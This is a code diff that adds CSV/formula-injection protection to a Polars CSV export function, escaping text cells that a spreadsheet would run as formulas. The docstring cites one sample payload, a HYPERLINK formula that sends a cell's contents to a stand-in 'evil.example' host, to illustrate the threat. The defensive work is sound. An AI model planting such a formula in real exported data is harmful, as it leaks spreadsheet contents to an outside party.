@@ -90,10 +90,30 @@ def header_lines(frame: pl.DataFrame, *, title: str, view: View) -> list[str]:
     return header
 
 
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): = + - @, tab, return.
+_FORMULA_START = r"^[=+\-@\t\r]"
+
+
+def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
+    """``frame`` with every text cell that a spreadsheet would run as a formula prefixed with ``'``.
+
+    Campaign, source and dealer names come from the warehouse, so a name like
+    ``=HYPERLINK("http://evil.example?"&A1)`` must open as text; numbers are left alone.
+    """
+    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
+    return frame.with_columns(
+        pl.when(pl.col(name).str.contains(_FORMULA_START))
+        .then(pl.lit("'") + pl.col(name))
+        .otherwise(pl.col(name))
+        .alias(name)
+        for name in texts
+    )
+
+
 def csv_text(frame: pl.DataFrame, *, title: str, view: View) -> str:
-    """The CSV: comment lines naming what it holds, then the header and rows."""
+    """The CSV: comment lines naming what it holds, then the header and rows (formula-safe text)."""
     header = [f"# {line}" for line in header_lines(frame, title=title, view=view)]
-    return "\n".join(header) + "\n" + frame.write_csv()
+    return "\n".join(header) + "\n" + spreadsheet_safe(frame).write_csv()
 
 
 def file_name(title: str, view: View, extension: str = "csv") -> str:
